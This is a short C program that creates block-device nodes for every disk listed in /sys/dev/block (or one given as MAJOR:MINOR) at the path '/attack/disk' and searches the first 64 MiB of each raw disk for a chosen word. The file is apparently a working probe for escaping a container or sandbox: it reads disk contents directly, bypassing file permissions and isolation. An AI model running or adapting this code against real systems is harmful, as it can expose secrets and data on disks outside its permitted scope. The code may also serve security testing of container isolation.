// Makes the node of each disk that sysfs shows (or of the one that is named as MAJOR:MINOR) and looks for a word in its first 64 MiB.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int tried, opened;

static void search(const char *name, const char *word) {
  unsigned major_number, minor_number;
  if (sscanf(name, "%u:%u", &major_number, &minor_number) != 2) return;
  tried++;
  unlink("/attack/disk");
  if (mknod("/attack/disk", S_IFBLK | 0600, makedev(major_number, minor_number)) < 0) { printf("mknod %s: %s; ", name, strerror(errno)); return; }
  int disk = open("/attack/disk", O_RDONLY);
  if (disk < 0) return;
  opened++;
  static char block[(1 << 20) + 128];
  for (int mib = 0; mib < 64; mib++) {
    ssize_t length = read(disk, block, 1 << 20);
    if (length <= 0) break;
    if (memmem(block, (size_t)length, word, strlen(word))) { printf("found on disk %s\n", name); break; }
  }
  close(disk);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  if (argc > 2) search(argv[2], argv[1]);
  DIR *disks = argc > 2 ? NULL : opendir("/sys/dev/block");
  for (struct dirent *entry; disks && (entry = readdir(disks));) search(entry->d_name, argv[1]);
  printf("%d disks in sight, %d could be opened\n", tried, opened);
  return 0;
}
